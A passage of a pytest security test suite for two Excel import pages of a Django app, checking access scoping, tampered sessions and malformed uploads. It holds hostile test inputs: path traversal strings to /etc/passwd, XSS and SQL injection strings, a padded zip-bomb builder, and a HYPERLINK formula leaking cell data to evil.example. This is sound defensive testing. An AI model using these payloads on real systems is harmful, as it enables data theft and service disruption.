"""An attack on the two Excel import pages (roster /to/nhap/, villages /don-vi/nhap-thon/) as every kind of user:
what a user may reach or create outside their scope, the steps posted out of order or with a session that was
tampered with, absurd column choices, hostile files, two imports creating the same village at once, and the
words the pages show. Each test states the behaviour the pages should have: a failing test is a finding."""

import datetime
import io
import re
import threading
import zipfile
from html.parser import HTMLParser

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, connections
from django.test import Client
from openpyxl import Workbook, load_workbook

from tocns.accounts.models import Role, RoleAssignment
from tocns.accounts.services import create_user, grant_role
from tocns.core.models import ColumnChoice
from tocns.teams.models import Member
from tocns.units.models import Unit, UnitKind

ROSTER = "/to/nhap/"
ROSTER_CONFIRM = "/to/nhap/xac-nhan/"
ROSTER_REJECTED = "/to/nhap/dong-loi.xlsx"
VILLAGES = "/don-vi/nhap-thon/"
VILLAGES_CONFIRM = "/don-vi/nhap-thon/xac-nhan/"
VILLAGES_REJECTED = "/don-vi/nhap-thon/dong-loi.xlsx"
ROSTER_KEY = "roster_import_file"
VILLAGES_KEY = "village_import_file"
PAGES = [(ROSTER, ROSTER_CONFIRM, ROSTER_REJECTED), (VILLAGES, VILLAGES_CONFIRM, VILLAGES_REJECTED)]

HEADER = ["Mã xã", "Thôn", "Tên tổ", "Họ và tên", "Vai trò", "Số điện thoại", "Năm sinh"]
VILLAGE_HEADER = ["Mã xã", "Tên thôn", "Số hộ"]

threads_need_postgresql = pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="SQLite's in-memory test database shares one cache between threads",
)


# --- helpers -------------------------------------------------------------------------------------------------


def workbook(rows: list[list], *, title: str = "Danh sách") -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


SHEET1 = "xl/worksheets/sheet1.xml"


def patched(data: bytes, changes: dict) -> bytes:
    """The .xlsx with some of its parts rewritten: changes maps a part name to a function of its bytes, or to
    new bytes (a part the file does not have is added)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            change = changes.get(info.filename)
            if callable(change):
                content = change(content)
            elif change is not None:
                content = change
            target.writestr(info.filename, content)
        for name, content in changes.items():
            if name not in source.namelist():
                target.writestr(name, content)
    return out.getvalue()


def upload(client, data: bytes, url: str = ROSTER, name: str = "ds.xlsx"):
    return client.post(url, {"file": SimpleUploadedFile(name, data)})


def officer_of(unit, role=Role.COMMUNE_OFFICER, username="canbo.khac"):
    user = create_user(actor=None, username=username, password="x-mat-khau-1", full_name=username, phone=None)
    grant_role(actor=None, user=user, role=role, unit=unit)
    client = Client()
    client.force_login(user)
    return user, client


class _Visible(HTMLParser):
    """The text a user reads on a page: text nodes outside scripts and styles, and the attributes shown."""

    def __init__(self):
        super().__init__()
        self.parts: list[str] = []
        self.hidden = 0

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "style"):
            self.hidden += 1
        for name, value in attrs:
            if name in ("title", "placeholder", "aria-label", "alt") and value:
                self.parts.append(value)

    def handle_endtag(self, tag):
        if tag in ("script", "style"):
            self.hidden -= 1

    def handle_data(self, data):
        if not self.hidden:
            self.parts.append(data)


def visible_text(html: str) -> str:
    parser = _Visible()
    parser.feed(html)
    return " ".join(" ".join(parser.parts).split())


RAW_WORDS = re.compile(
    r"\b(None|True|False|null|undefined|full_name|village_name|commune_code|commune_name|team_name|"
    r"households|birth_year|has_smartphone|affiliation|affiliation_note|phone|role|Error|Exception|"
    r"Traceback|This field|required|Currently|Clear|Change|Submit|Browse|file|upload|column|row|sheet)\b"
)


def assert_no_raw_words(response):
    text = visible_text(response.content.decode())
    found = sorted(set(RAW_WORDS.findall(text)))
    assert not found, f"English or raw field names shown: {found}"


def no_server_error(response):
    assert response.status_code < 500, response.status_code
    return response


# --- who may reach the pages ---------------------------------------------------------------------------------


@pytest.mark.parametrize("page, confirm, rejected", PAGES)
def test_anonymous_is_sent_to_sign_in_at_every_step(tree, page, confirm, rejected):
    client = Client()
    data = workbook([HEADER, ["02647", "Tổ dân phố Kim Tân", "", "Đỗ Thị Hoa"]])
    for response in (
        client.get(page),
        upload(client, data, page),
        client.post(page, {"choose": "1", "col_full_name": "D"}),
        client.post(page, {"create_villages": "1"}),
        client.post(confirm),
        client.post(confirm, {"cancel": "1"}),
        client.get(rejected),
    ):
        assert response.status_code == 302 and "next=" in response["Location"]
    assert not default_storage.exists("imports") or not default_storage.listdir("imports")[1]


@pytest.mark.parametrize("who", ["team_leader", "team_member", "no_role"])
@pytest.mark.parametrize("page, confirm, rejected", PAGES)
def test_read_only_users_are_refused_every_step_in_vietnamese(
    tree, rosters, client_for, who, page, confirm, rejected
):
    client = client_for(who)
    data = workbook([HEADER, ["02647", "Tổ dân phố Mới Lập", "", "Đỗ Thị Hoa", "Thành viên"]])
    responses = [
        client.get(page),
        upload(client, data, page),
        client.post(page, {"choose": "1", "col_full_name": "D"}),
        client.post(page, {"create_villages": "1"}),
        client.post(confirm),
        client.post(confirm, {"skip_bad_rows": "1"}),
        client.get(rejected),
    ]
    for response in responses:
        assert response.status_code == 403
    assert_no_raw_words(responses[0])
    assert not Unit.objects.filter(name="Tổ dân phố Mới Lập").exists()
    assert not Member.objects.filter(full_name="Đỗ Thị Hoa").exists()


def test_a_team_leader_cannot_create_villages_even_in_their_own_commune(tree, rosters, client_for):
    client = client_for("team_leader")
    data = workbook([HEADER, ["02647", "Tổ dân phố Mới Lập", "", "Đỗ Thị Hoa", "Thành viên"]])
    upload(client, data)
    client.post(ROSTER, {"create_villages": "1"})
    client.post(ROSTER_CONFIRM, {"skip_bad_rows": "1"})
    assert not Unit.objects.filter(name="Tổ dân phố Mới Lập").exists()


def test_a_commune_officer_cannot_create_villages_in_other_communes(tree, rosters, client_for):
    client = client_for("commune_officer")  # Phường Lào Cai only
    rows = [
        HEADER,
        ["02953", "Thôn Mới Mường Khương", "", "Người Một", "Thành viên"],  # same province, other commune
        ["00721", "Thôn Mới Đồng Văn", "", "Người Hai", "Thành viên"],  # other province
        ["", "Thôn Mới Nữa", "", "Người Ba", "Thành viên"],  # no commune at all
        ["02647", "Tổ dân phố Mới Lập", "", "Người Bốn", "Thành viên"],  # their own: allowed
    ]
    first = no_server_error(upload(client, workbook(rows)))
    offered = {(c.code, n) for c, n in first.context["result"].villages_to_create}
    assert offered == {("02647", "Tổ dân phố Mới Lập")}
    second = no_server_error(client.post(ROSTER, {"create_villages": "1"}))
    result = second.context["result"]
    assert {r.full_name for r in result.to_create} == {"Người Bốn"}
    assert len(result.errors) == 3
    client.post(ROSTER_CONFIRM, {"skip_bad_rows": "1"})
    assert not Unit.objects.filter(name__in=["Thôn Mới Mường Khương", "Thôn Mới Đồng Văn", "Thôn Mới Nữa"])
    assert Unit.objects.get(name="Tổ dân phố Mới Lập").parent == tree.phuong_lao_cai
    assert set(Member.objects.filter(full_name__startswith="Người").values_list("full_name", flat=True)) == {
        "Người Bốn"
    }


def test_a_province_officer_of_another_province_creates_nothing_in_this_one(tree, rosters):
    _user, client = officer_of(tree.tuyen_quang, Role.PROVINCE_OFFICER, "canbo.tuyenquang")
    rows = [
        HEADER,
        ["02647", "Tổ dân phố Mới Lập", "", "Người Một", "Thành viên"],
        ["", "Tổ dân phố Mới Lập 2", "", "Người Hai", "Thành viên"],
        ["02647", "Tổ dân phố Kim Tân", "", "Người Ba", "Thành viên"],
    ]
    data = workbook([[*HEADER[:1], "Xã", *HEADER[1:]]] + [[r[0], "Phường Lào Cai", *r[1:]] for r in rows[1:]])
    preview = no_server_error(upload(client, data))
    result = preview.context["result"]
    assert not result.to_create and not result.villages_to_create
    # Whether the other province's commune has a village is not told: a missing and an existing village
    # get the same answer.
    messages = {e.row: e.message for e in result.errors}
    assert messages[2] == messages[4]
    no_server_error(client.post(ROSTER, {"create_villages": "1"}))
    client.post(ROSTER_CONFIRM, {"skip_bad_rows": "1"})
    assert not Unit.objects.filter(name__startswith="Tổ dân phố Mới Lập").exists()
    assert not Member.objects.filter(full_name__startswith="Người").exists()

    villages = no_server_error(
        upload(client, workbook([VILLAGE_HEADER, ["02647", "Tổ dân phố Mới Lập", 10]]), VILLAGES)
    )
    assert not villages.context["result"].to_create
    client.post(VILLAGES_CONFIRM, {"skip_bad_rows": "1"})
    assert not Unit.objects.filter(name="Tổ dân phố Mới Lập").exists()


def test_a_commune_officer_cannot_import_villages_into_another_commune(tree, rosters, client_for):
    client = client_for("commune_officer")
    rows = [VILLAGE_HEADER, ["02953", "Thôn Lạ", 10], ["00721", "Thôn Lạ Hai", 10], ["02647", "Tổ Mới", 5]]
    preview = no_server_error(upload(client, workbook(rows), VILLAGES))
    assert [r.name for r in preview.context["result"].to_create] == ["Tổ Mới"]
    client.post(VILLAGES_CONFIRM, {"skip_bad_rows": "1"})
    assert not Unit.objects.filter(name__in=["Thôn Lạ", "Thôn Lạ Hai"]).exists()
    assert Unit.objects.get(name="Tổ Mới").parent == tree.phuong_lao_cai


def test_a_province_officers_list_without_a_commune_column_is_not_put_in_some_commune(
    tree, rosters, client_for
):
    client = client_for("province_officer")
    response = no_server_error(
        upload(client, workbook([["Tên thôn", "Số hộ"], ["Thôn Không Xã", 10]]), VILLAGES)
    )
    assert "result" not in response.context or not response.context["result"].to_create
    client.post(VILLAGES_CONFIRM)
    assert not Unit.objects.filter(name="Thôn Không Xã").exists()


def test_a_role_withdrawn_between_preview_and_confirm_writes_nothing(tree, rosters, client_for, people):
    client = client_for("commune_officer")
    upload(client, workbook([HEADER, ["02647", "Tổ dân phố Mới Lập", "", "Người Một", "Thành viên"]]))
    client.post(ROSTER, {"create_villages": "1"})
    RoleAssignment.objects.filter(user=people.commune_officer).delete()
    response = client.post(ROSTER_CONFIRM)
    assert response.status_code == 403
    assert not Unit.objects.filter(name="Tổ dân phố Mới Lập").exists()


# --- rejected rows: only one's own -----------------------------------------------------------------------------


def _upload_with_errors(client, url=ROSTER):
    if url == ROSTER:
        rows = [HEADER, ["99999", "Thôn Không Có", "", "Người Lỗi", "Thành viên"]]
        rows.append(["02647", "Tổ dân phố Kim Tân", "", "Người Tốt", "Thành viên"])
    else:
        rows = [VILLAGE_HEADER, ["99999", "Thôn Không Có", 10], ["02647", "Tổ Tốt", 5]]
    return upload(client, workbook(rows), url)


@pytest.mark.parametrize("page, confirm, rejected", PAGES)
def test_another_user_cannot_download_someones_rejected_rows(
    tree, rosters, client_for, people, page, confirm, rejected
):
    owner = client_for("commune_officer")
    _upload_with_errors(owner, page)
    assert owner.get(rejected).status_code == 200
    for name in ("province_officer", "admin", "outsider", "team_leader", "no_role"):
        assert client_for(name).get(rejected).status_code in (403, 404), name
    assert Client().get(rejected).status_code == 302
    # The same browser, once its user signs out and another signs in, has nothing to download either.
    owner.logout()
    owner.force_login(people.outsider)
    assert owner.get(rejected).status_code == 404


@pytest.mark.parametrize("page, confirm, rejected", PAGES)
def test_rejected_rows_are_gone_after_cancel_and_after_a_new_upload(
    tree, rosters, client_for, page, confirm, rejected
):
    client = client_for("commune_officer")
    _upload_with_errors(client, page)
    client.post(confirm, {"cancel": "1"})
    assert client.get(rejected).status_code == 404
    assert not default_storage.listdir("imports")[1]


# --- steps out of order, repeated, or with a tampered session --------------------------------------------------


@pytest.mark.parametrize("page, confirm, rejected", PAGES)
def test_steps_without_an_upload_say_the_session_expired(tree, rosters, client_for, page, confirm, rejected):
    client = client_for("commune_officer")
    for data in ({"choose": "1", "col_full_name": "D"}, {"create_villages": "1"}, {}):
        response = no_server_error(client.post(page, data, follow=True))
        assert response.status_code == 200
    for data in ({}, {"skip_bad_rows": "1"}, {"cancel": "1"}):
        response = no_server_error(client.post(confirm, data, follow=True))
        assert response.status_code == 200
    assert client.get(confirm).status_code == 405
    assert client.get(rejected).status_code == 404


def test_create_villages_on_the_village_page_creates_no_village(tree, rosters, client_for):
    client = client_for("commune_officer")
    upload(client, workbook([VILLAGE_HEADER, ["02647", "Tổ Mới", 5]]), VILLAGES)
    response = no_server_error(client.post(VILLAGES, {"create_villages": "1"}))
    assert response.status_code == 200
    assert_no_raw_words(response)
    assert not Unit.objects.filter(name="Tổ Mới").exists()
    # The upload is still waiting, as it was.
    client.post(VILLAGES_CONFIRM)
    assert Unit.objects.filter(name="Tổ Mới").count() == 1


def test_create_villages_asked_for_many_times_creates_the_village_once(tree, rosters, client_for):
    client = client_for("commune_officer")
    upload(client, workbook([HEADER, ["02647", "Tổ dân phố Mới Lập", "", "Người Một", "Thành viên"]]))
    for _n in range(3):
        no_server_error(client.post(ROSTER, {"create_villages": "1"}))
    client.post(ROSTER_CONFIRM)
    client.post(ROSTER_CONFIRM)
    assert Unit.objects.filter(name="Tổ dân phố Mới Lập").count() == 1
    assert Member.objects.filter(full_name="Người Một").count() == 1


@pytest.mark.parametrize("page, confirm, rejected", PAGES)
def test_confirm_twice_and_confirm_after_cancel_write_once_and_nothing(
    tree, rosters, client_for, page, confirm, rejected
):
    client = client_for("commune_officer")
    if page == ROSTER:
        rows = [HEADER, ["02647", "Tổ dân phố Kim Tân", "", "Người Hai Lần", "Thành viên"]]

        def count():
            return Member.objects.filter(full_name="Người Hai Lần").count()
    else:
        rows = [VILLAGE_HEADER, ["02647", "Tổ Hai Lần", 5]]

        def count():
            return Unit.objects.filter(name="Tổ Hai Lần").count()

    upload(client, workbook(rows), page)
    first = client.post(confirm, follow=True)
    second = no_server_error(client.post(confirm, follow=True))
    assert count() == 1
    assert "hết hạn" in second.content.decode() and "Đã nhập" not in visible_text(second.content.decode())
    assert_no_raw_words(first)

    upload(client, workbook(rows[:1] + [[*rows[1][:-1], rows[1][-1]]]), page)
    client.post(confirm, {"cancel": "1"})
    no_server_error(client.post(confirm, {"skip_bad_rows": "1"}))
    assert count() == 1


def test_choose_after_a_file_that_needed_no_choice_changes_nothing(tree, rosters, client_for):
    client = client_for("commune_officer")
    upload(client, workbook([HEADER, ["02647", "Tổ dân phố Kim Tân", "", "Đỗ Thị Hoa", "Thành viên"]]))
    response = no_server_error(
        client.post(ROSTER, {"choose": "1", "col_full_name": "A", "col_village_name": "A"})
    )
    assert [r.full_name for r in response.context["result"].to_create] == ["Đỗ Thị Hoa"]
    assert not ColumnChoice.objects.exists()


def test_the_village_page_does_not_confirm_a_roster_upload(tree, rosters, client_for):
    client = client_for("commune_officer")
    upload(client, workbook([HEADER, ["02647", "Tổ dân phố Mới", "", "Người Một", "Thành viên"]]))
    no_server_error(client.post(VILLAGES_CONFIRM))
    no_server_error(client.post(VILLAGES, {"choose": "1", "col_village_name": "B"}, follow=True))
    assert not Unit.objects.filter(name="Tổ dân phố Mới").exists()


# The session is kept on the server, so a user cannot write these; a value of another version of the code, or
# a bug elsewhere, can. Whatever it holds, a step is an expired session, never a server error.
TAMPERED = [
    "imports/not-a-dict.xlsx",
    ["imports/x.xlsx"],
    {"file": 12},
    {"file": ["imports/x.xlsx"]},
    {"file": "imports/does-not-exist.xlsx", "missing": [["full_name"]], "columns": "ABC"},
    {"file": "../../../../etc/passwd"},
]
TAMPERED_REJECTED = ["../../../../etc/passwd", "imports/../../outside.xlsx", 12, ["imports/x.xlsx"], {"a": 1}]


@pytest.mark.parametrize("value", TAMPERED, ids=range(len(TAMPERED)))
@pytest.mark.parametrize("page, confirm, rejected", PAGES)
def test_a_tampered_pending_upload_in_the_session_is_an_expired_session(
    tree, rosters, client_for, value, page, confirm, rejected
):
    key = ROSTER_KEY if page == ROSTER else VILLAGES_KEY
    client = client_for("commune_officer")
    for step, url, data in (
        ("choose", page, {"choose": "1", "col_full_name": "D"}),
        ("create", page, {"create_villages": "1"}),
        ("upload", page, {"file": SimpleUploadedFile("a.xlsx", workbook([VILLAGE_HEADER]))}),
        ("confirm", confirm, {}),
        ("cancel", confirm, {"cancel": "1"}),
    ):
        session = client.session
        session[key] = value
        session.save()
        response = client.post(url, data)
        assert response.status_code in (200, 302, 400), (step, response.status_code)


@pytest.mark.parametrize("value", TAMPERED_REJECTED, ids=range(len(TAMPERED_REJECTED)))
@pytest.mark.parametrize("page, confirm, rejected", PAGES)
def test_a_tampered_rejected_rows_name_in_the_session_is_not_found(
    tree, rosters, client_for, value, page, confirm, rejected
):
    key = ROSTER_KEY if page == ROSTER else VILLAGES_KEY
    client = client_for("commune_officer")
    good = workbook([VILLAGE_HEADER, ["02647", "Tổ Mới", 5]] if page == VILLAGES else [HEADER])
    for step, url, data in (
        ("download", rejected, None),
        ("upload", page, {"file": SimpleUploadedFile("a.xlsx", good)}),
        ("cancel", confirm, {"cancel": "1"}),
        ("done", f"{page}?xong=1", None),
    ):
        session = client.session
        session[f"{key}_rejected"] = value
        session.save()
        response = client.get(url) if data is None else client.post(url, data)
        assert response.status_code in (200, 302, 400, 404), (step, response.status_code)


def _real_file_with_missing_name_column(client, page=ROSTER):
    """An upload waiting at the column choice (the name column not recognised); returns the pending value."""
    rows = [["Mã xã", "Thôn", "Người tham gia"], ["02647", "Tổ dân phố Kim Tân", "Đỗ Thị Hoa"]]
    response = upload(client, workbook(rows), page)
    assert "choose" in response.context
    return dict(client.session[ROSTER_KEY])


@pytest.mark.parametrize(
    "missing",
    ["full_name", [["full_name"]], None],
    ids=["a-string", "a-pair-short", "none"],
)
def test_a_tampered_list_of_missing_columns_does_not_break_the_choice_step(
    tree, rosters, client_for, missing
):
    client = client_for("commune_officer")
    pending = _real_file_with_missing_name_column(client)
    pending["missing"] = missing
    session = client.session
    session[ROSTER_KEY] = pending
    session.save()
    no_server_error(client.post(ROSTER, {"choose": "1", "col_full_name": "C"}))


@pytest.mark.parametrize("columns", ["C", {"full_name": 3}, {"full_name": None}, {"nope": "C"}])
def test_tampered_chosen_columns_do_not_break_the_next_steps(tree, rosters, client_for, columns):
    client = client_for("commune_officer")
    pending = _real_file_with_missing_name_column(client)
    pending["columns"] = columns
    session = client.session
    session[ROSTER_KEY] = pending
    session.save()
    no_server_error(client.post(ROSTER, {"choose": "1", "col_full_name": "C"}))
    no_server_error(client.post(ROSTER_CONFIRM))


def test_a_session_naming_a_file_outside_the_import_folder_is_neither_read_nor_deleted(
    tree, rosters, client_for
):
    """Another file of the site (a member's photo, a backup) named in the session, as `imports/../x` or
    directly: the steps read only the uploads folder, and never delete outside it."""
    client = client_for("commune_officer")
    secret = workbook([HEADER, ["02647", "Tổ dân phố Kim Tân", "", "Người Bí Mật", "Thành viên"]])
    name = default_storage.save("backups/other.xlsx", io.BytesIO(secret))
    read, deleted = [], []
    for value in (name, f"imports/../{name}"):
        for url, data in (
            (ROSTER, {"create_villages": "1"}),
            (ROSTER_CONFIRM, {}),
            (ROSTER_CONFIRM, {"cancel": "1"}),
        ):
            session = client.session
            session[ROSTER_KEY] = {"file": value}
            session.save()
            response = no_server_error(client.post(url, data, follow=True))
            if "Người Bí Mật" in response.content.decode() or Member.objects.filter(full_name="Người Bí Mật"):
                read.append((value, url))
            if not default_storage.exists(name):
                deleted.append((value, url, data))
                default_storage.save(name, io.BytesIO(secret))
    assert not read and not deleted, f"read: {read}; deleted: {deleted}"


def test_confirm_is_refused_without_the_csrf_token(tree, rosters, people):
    client = Client(enforce_csrf_checks=True)
    client.force_login(people.commune_officer)
    page = client.get(ROSTER)
    token = page.context["csrf_token"]
    data = workbook([HEADER, ["02647", "Tổ dân phố Kim Tân", "", "Người Csrf", "Thành viên"]])
    client.post(ROSTER, {"file": SimpleUploadedFile("a.xlsx", data), "csrfmiddlewaretoken": str(token)})
    assert client.post(ROSTER_CONFIRM).status_code == 403
    assert client.post(ROSTER, {"create_villages": "1"}).status_code == 403
    assert not Member.objects.filter(full_name="Người Csrf").exists()


# --- absurd column choices -------------------------------------------------------------------------------------

ABSURD_LETTERS = [
    "A" * 10000,
    "AAAA",
    "\x00",
    "\x1b[31mC",
    "C\r\nD",
    "Ｃ",  # full-width
    "ß",
    "İ",
    "ǅ",
    "😀",
    "-1",
    "3",
    "",
    " ",
    "XFD",
    "ZZZ",
    "C" * 3 + "\u0301",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
]


@pytest.mark.parametrize("letter", ABSURD_LETTERS, ids=range(len(ABSURD_LETTERS)))
def test_absurd_column_letters_ask_again(tree, rosters, client_for, letter):
    client = client_for("commune_officer")
    _real_file_with_missing_name_column(client)
    response = no_server_error(client.post(ROSTER, {"choose": "1", "col_full_name": letter}))
    assert response.status_code == 200 and "choose" in response.context
    assert "<script>alert(1)</script>" not in response.content.decode()
    assert not ColumnChoice.objects.exists()
    assert_no_raw_words(response)


def test_a_huge_posted_value_for_every_column_key_is_ignored(tree, rosters, client_for):
    client = client_for("commune_officer")
    _real_file_with_missing_name_column(client)
    data = {"choose": "1", **{f"col_{n}": "A" * 100_000 for n in range(200)}, "col_full_name": ["C", "D"]}
    response = no_server_error(client.post(ROSTER, data))
    assert response.status_code in (200, 400)  # 400: Django's limit on a request's size


def test_a_lower_case_letter_is_the_column(tree, rosters, client_for):
    client = client_for("commune_officer")
    _real_file_with_missing_name_column(client)
    response = client.post(ROSTER, {"choose": "1", "col_full_name": " c "})
    assert [r.full_name for r in response.context["result"].to_create] == ["Đỗ Thị Hoa"]


def test_the_same_letter_for_two_columns_is_refused(tree, rosters, client_for):
    client = client_for("commune_officer")
    rows = [["Mã xã", "Nơi ở", "Người tham gia"], ["02647", "Tổ dân phố Kim Tân", "Đỗ Thị Hoa"]]
    asked = upload(client, workbook(rows))
    assert {key for key, _label in asked.context["choose"].missing} == {"village_name", "full_name"}
    response = no_server_error(
        client.post(ROSTER, {"choose": "1", "col_village_name": "C", "col_full_name": "C"})
    )
    # One cell cannot be both the village and the person: asked again, nothing planned from it.
    assert "choose" in response.context and "result" not in response.context
    client.post(ROSTER, {"create_villages": "1"})
    client.post(ROSTER_CONFIRM, {"skip_bad_rows": "1"})
    assert not Unit.objects.filter(name="Đỗ Thị Hoa").exists()
    assert not ColumnChoice.objects.filter(column="village_name", header="nguoi tham gia").exists()


def test_a_column_chosen_for_a_field_that_was_recognised_does_not_override_it(tree, rosters, client_for):
    """col_commune_code=C while the file's commune column was found: the officer could point the commune at
    another column only where it was missing."""
    client = client_for("commune_officer")
    _real_file_with_missing_name_column(client)
    response = client.post(ROSTER, {"choose": "1", "col_full_name": "C", "col_commune_code": "C"})
    assert [r.full_name for r in response.context["result"].to_create] == ["Đỗ Thị Hoa"]


# --- hostile files -------------------------------------------------------------------------------------------


def _sheet(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("page", [ROSTER, VILLAGES])
def test_a_zip_bomb_is_refused_in_vietnamese(tree, rosters, client_for, page):
    client = client_for("commune_officer")
    data = workbook([HEADER, ["02647", "Tổ dân phố Kim Tân", "", "Đỗ Thị Hoa"]])
    padding = b"<!--" + b" " * 60_000_000 + b"-->"
    bomb = patched(data, {SHEET1: lambda xml: xml.replace(b"<sheetData>", padding + b"<sheetData>")})
    assert len(bomb) < 1_000_000
    response = no_server_error(upload(client, bomb, page))
    assert response.status_code == 200 and "result" not in response.context
    assert "giải nén" in visible_text(response.content.decode())
    assert_no_raw_words(response)
    assert not default_storage.listdir("imports")[1]


def test_huge_shared_strings_are_refused(tree, rosters, client_for):
    client = client_for("commune_officer")
    data = workbook([HEADER, ["02647", "Tổ dân phố Kim Tân", "", "Đỗ Thị Hoa"]])
    strings = "".join(f"<si><t>{n} {'Ơ' * 400}</t></si>" for n in range(25_000))
    huge = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="25000" '
        f'uniqueCount="25000">{strings}</sst>'
    ).encode()
    assert len(huge) > 17 * 1024 * 1024
    data = patched(data, {"xl/sharedStrings.xml": huge})
    response = no_server_error(upload(client, data))
    assert "sharedStrings" in response.content.decode() and "result" not in response.context


def test_a_zip_that_lies_about_its_sizes_is_a_damaged_file(tree, rosters, client_for):
    client = client_for("commune_officer")
    data = bytearray(workbook([HEADER, ["02647", "Tổ dân phố Kim Tân", "", "Đỗ Thị Hoa"]]))
    # Make the central directory claim every part is 10 bytes long.
    marker = b"PK\x01\x02"
    at = data.find(marker)
    while at != -1:
        data[at + 24 : at + 28] = (10).to_bytes(4, "little")
        at = data.find(marker, at + 4)
    response = no_server_error(upload(client, bytes(data)))
    assert response.status_code == 200 and "result" not in response.context


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"not excel at all",
        b"PK\x03\x04" + b"\x00" * 100,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        "Mã xã;Thôn\n02647;Kim Tân".encode(),
    ],
    ids=["empty", "text", "broken-zip", "xls", "csv"],
)
@pytest.mark.parametrize("page", [ROSTER, VILLAGES])
def test_files_that_are_not_workbooks_are_told_in_vietnamese(tree, rosters, client_for, data, page):
    response = no_server_error(upload(client_for("commune_officer"), data, page))
    assert response.status_code == 200 and "result" not in response.context
    assert_no_raw_words(response)


SHEET_TRICKS = {
    "dimension": lambda xml: xml.replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>', 1),
    "bad-cell-ref": lambda xml: xml.replace(b'r="D2"', b'r="ZZZZZ2"'),
    "shared-index": lambda xml: re.sub(rb'(<c r="D2" t="s"><v>)\d+', rb"\g<1>999999", xml),
    "not-a-number": lambda xml: re.sub(rb'(<c r="D2" t="s"><v>)\d+', rb"\g<1>abc", xml),
    "infinity": lambda xml: xml.replace(b"<v>1990</v>", b"<v>1E999</v>"),
    "nan": lambda xml: xml.replace(b"<v>1990</v>", b"<v>NaN</v>"),
    "huge-row-number": lambda xml: xml.replace(b'<row r="2"', b'<row r="99999999999999999999"'),
    "truncated": lambda xml: xml[: len(xml) // 2],
}


@pytest.mark.parametrize("trick", SHEET_TRICKS)
def test_damaged_sheets_are_told_not_a_server_error(tree, rosters, client_for, trick):
    client = client_for("commune_officer")
    data = workbook([HEADER, ["02647", "Tổ dân phố Kim Tân", "", "Đỗ Thị Hoa", "Thành viên", "", 1990]])
    data = patched(data, {SHEET1: SHEET_TRICKS[trick]})
    response = no_server_error(upload(client, data))
    if "result" in response.context:
        no_server_error(client.get(ROSTER_REJECTED))
        no_server_error(client.post(ROSTER_CONFIRM, {"skip_bad_rows": "1"}))
    assert_no_raw_words(response)


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def formulas_as_text(data: bytes) -> bytes:
    """openpyxl writes a text starting with "=" as a formula: make those the text cells an officer's file
    holds (typed with a leading apostrophe, or pasted from a web page)."""

    def text_cells(xml: bytes) -> bytes:
        return re.sub(
            rb'<c r="([A-Z]+\d+)"[^>]*><f>(.*?)</f><v\s*/?>(?:</v>)?</c>',
            lambda m: b'<c r="' + m[1] + b'" t="inlineStr"><is><t>=' + m[2] + b"</t></is></c>",
            xml,
        )

    return patched(data, {SHEET1: text_cells})


def shared_strings(data: bytes) -> bytes:
    """The workbook with its text in a shared-strings table, as Excel writes it: a cell repeated a thousand
    times is stored once, so a small file can hold many long cells."""
    strings: dict[bytes, int] = {}

    def cell(m):
        number = strings.setdefault(m[2], len(strings))
        return b'<c r="' + m[1] + b'" t="s"><v>' + str(number).encode() + b"</v></c>"

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read(SHEET1)
    sheet = re.sub(rb'<c r="([A-Z]+\d+)" t="inlineStr"><is><t(?: [^>]*)?>(.*?)</t></is></c>', cell, sheet)
    table = b"".join(b"<si><t>" + text + b"</t></si>" for text in strings)
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
    return patched(
        data,
        {
            SHEET1: sheet,
            "xl/sharedStrings.xml": b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + table
            + b"</sst>",
            "[Content_Types].xml": lambda xml: xml.replace(
                b"</Types>",
                f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'.encode(),
            ),
            "xl/_rels/workbook.xml.rels": lambda xml: xml.replace(
                b"</Relationships>",
                f'<Relationship Id="rIdSst" Type="{relation}" Target="sharedStrings.xml"/></Relationships>'.encode(),
            ),
        },
    )


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


@pytest.mark.parametrize("page", [ROSTER, VILLAGES])
def test_a_formula_text_in_a_rejected_row_stays_text_in_the_download(tree, rosters, client_for, page):
    client = client_for("commune_officer")
    if page == ROSTER:
        header = [*HEADER, "Ghi chú", FORMULA]
        rows = [header, ["99999", FORMULA, FORMULA, FORMULA, "Thành viên", "", "", FORMULA, FORMULA]]
    else:
        header = [*VILLAGE_HEADER, "Ghi chú", FORMULA]
        rows = [header, ["99999", FORMULA, FORMULA, FORMULA, FORMULA]]
    data = formulas_as_text(workbook(rows))
    assert "<f>" not in _sheet(data)
    preview = no_server_error(upload(client, data, page))
    assert preview.context["result"].errors
    download = client.get(ROSTER_REJECTED if page == ROSTER else VILLAGES_REJECTED)
    assert download.status_code == 200
    cells = _cells(download.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "<f>" not in _sheet(download.content)
    assert sum(1 for c in cells if c.value == FORMULA.replace("&quot;", '"')) >= 3


def test_a_formula_text_in_a_rejected_row_after_a_partial_import_stays_text(tree, rosters, client_for):
    client = client_for("commune_officer")
    rows = [
        [*HEADER, FORMULA],
        ["99999", "Thôn Không Có", "", FORMULA, "Thành viên", "", "", FORMULA],
